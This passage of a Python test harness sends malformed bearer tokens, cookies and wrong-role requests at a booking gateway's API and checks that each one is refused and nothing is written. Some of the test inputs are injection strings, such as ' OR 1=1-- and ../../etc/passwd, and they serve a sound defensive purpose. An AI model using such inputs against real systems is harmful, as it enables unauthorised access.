    def bearers(self):
        self.begin("malformed bearer tokens and credentials in wrong places")
        citizen = [("GET", "/api/v1/bookings/current", None), ("DELETE", "/api/v1/bookings/current", None),
                   ("POST", "/api/v1/bookings/current/reschedule", {"slotId": self.other_slot}),
                   ("POST", "/api/v1/bookings/current/requests", {"companion": True}),
                   ("POST", "/api/v1/follow-ups", {"use": "none", "wantsConversation": False})]
        malformed = [("Bearer", 401, "token-missing"), ("Bearer ", 401, "token-missing"), ("bearer", 401, "token-missing"),
                     ("Basic dXNlcjpwYXNz", 401, "token-missing"), ("Token " + self.token, 401, "token-missing"),
                     ("Bearer " + self.token.lower() + "x", 400, "token-typo"), ("Bearer " + "A" * 60_000, 400, "token-typo"),
                     ("Bearer null", 400, "token-typo"), ("Bearer " + self.token + " " + self.token, 400, "token-typo"),
                     ("Bearer " + self.bearer["counsellor-uturn"], 400, "token-typo"), ("Bearer %00", 400, "token-typo"),
                     ("Bearer ' OR 1=1--", 400, "token-typo"), ("Bearer ../../etc/passwd", 400, "token-typo")]
        for method, path, body in citizen:
            self.json_call("no Authorization", method, path, body, 401, contains="token-missing")
            for header, status, slug in malformed:
                self.json_call(f"Authorization: {header[:40]!r}", method, path, body, status, contains=slug, extra={"Authorization": header})
            self.json_call("well-formed unknown token", method, path, body, 404, token="7K3M-Q9TX-2B8R-WZ4N-HJ6Q", contains="token-unknown")
        self.json_call("complaint with a malformed bearer", "POST", "/api/v1/complaints", {"about": "service", "text": "x"}, 400,
                       extra={"Authorization": "Bearer x"}, contains="token-typo")
        staff = [("GET", "/api/v1/staff/cases"), ("GET", "/api/v1/staff/schedule"), ("GET", "/api/v1/stats?from=2026-01&to=2026-02"),
                 ("GET", "/api/v1/staff/access-log"), ("GET", "/api/v1/staff/complaints"), ("GET", "/api/v1/staff/groups"),
                 ("DELETE", "/api/v1/staff/sessions/current"), ("POST", "/api/v1/staff/checkins")]
        for method, path in staff:
            body = {"token": "x"} if method == "POST" else None
            for header in ("", "Bearer", "Bearer ", "Basic " + self.bearer["manager"], "Bearer " + self.token, "Bearer " + "A" * 60_000,
                           "Bearer " + self.bearer["manager"] + "x", "Bearer " + self.bearer["manager"][:-1], "Bearer ' OR 1=1--",
                           "Bearer " + self.bearer["manager"].upper(), "Bearer\t" + self.bearer["manager"]):
                self.json_call(f"Authorization: {header[:40]!r}", method, path, body, 401, extra={"Authorization": header} if header else {},
                               contains="sign-in-required")
            # A staff session cookie is no bearer for the API.
            self.json_call("staff cookie instead of a bearer", method, path, body, 401, extra={"Cookie": self.cookie["admin-uturn"][0]},
                           contains="sign-in-required")
        # Wrong role: the right form of credential, without the permission.
        for method, path, who in (("GET", "/api/v1/stats?from=2026-01&to=2026-02", "counsellor-uturn"), ("GET", "/api/v1/staff/cases", "manager"),
                                  ("GET", "/api/v1/staff/access-log", "counsellor-uturn"), ("POST", "/api/v1/staff/groups", "counsellor-uturn"),
                                  ("GET", "/api/v1/staff/schedule", "auditor-pas")):
            self.json_call(f"as {who}", method, path, {} if method == "POST" else None, 403, token=self.bearer[who], contains="forbidden")
        # Staff pages with a bad cookie: a form post is refused, a page view goes to sign-in.
        # (A bearer session token is a session like the cookie's: with another session's CSRF token it is refused 403.)
        answer = self.send("POST", "/staff/checkin", form_bytes([("csrf", self.cookie["admin-uturn"][1]), ("token", "x")]),
                           {"Content-Type": "application/x-www-form-urlencoded", "Cookie": "anongate_staff=" + self.bearer["manager"]})
        self.expect("POST /staff/checkin with a bearer token as the cookie and another session's CSRF token", answer, 403, "staff")
        for cookie in ("anongate_staff=", "anongate_staff=' OR 1=1--",
                       "anongate_staff=" + "A" * 4000, "__Host-anongate_staff=" + self.cookie["admin-uturn"][0].split("=", 1)[1]):
            answer = self.send("POST", "/staff/checkin", form_bytes([("csrf", self.cookie["admin-uturn"][1]), ("token", "x")]),
                               {"Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie})
            self.expect(f"POST /staff/checkin Cookie: {cookie[:40]!r}", answer, 401, "staff")
        self.alive()

    # -- nothing written ------------------------------------------------------------------------
    def nothing_written(self):
        self.begin("nothing written by a refused request")
        after = self.written()
        for key, before in self.baseline.items():
            problems = [] if after[key] == before else [f"{key}: {before!r} before, {after[key]!r} after"]
            self.record(f"{key} unchanged", problems)
        self.alive()


def main():
    started = time.time()
    with Gateway(at=next_open_morning()) as gw:
        corpus = Corpus(gw)
        corpus.setup()
        for run in (corpus.oversized_bodies, corpus.oversized_headers, corpus.broken_utf8, corpus.content_types, corpus.injections,
                    corpus.numbers, corpus.impossible_dates, corpus.repeated_and_missing, corpus.methods, corpus.bearers, corpus.nothing_written):
            run()
        corpus.begin("alive at the end")
        corpus.record("GET /healthz and /readyz at the end",
                      [] if gw.alive() and gw.request("GET", "/readyz")[0] == 200 else ["server not alive/ready: " + gw.tail(5)])
    wall = time.time() - started
    total = passed = 0
    print("hostile requests against anongate")
    for category in corpus.order:
        n, ok = corpus.counts[category]
        total += n
        passed += ok
        print(f"  {'ok  ' if n == ok else 'FAIL'} {category}: {n} requests, {ok} passed")
    print(f"  total: {total} checks, {passed} passed, {total - passed} failed, {wall:.1f} s")
    if corpus.failures:
        print("\nfailures:")
        for category, label, problems, answer in corpus.failures:
            print(f"- [{category}] {label[:240]}\n    {'; '.join(problems)}\n    answer: {answer}")
    return 1 if corpus.failures else 0


if __name__ == "__main__":
    sys.exit(main())
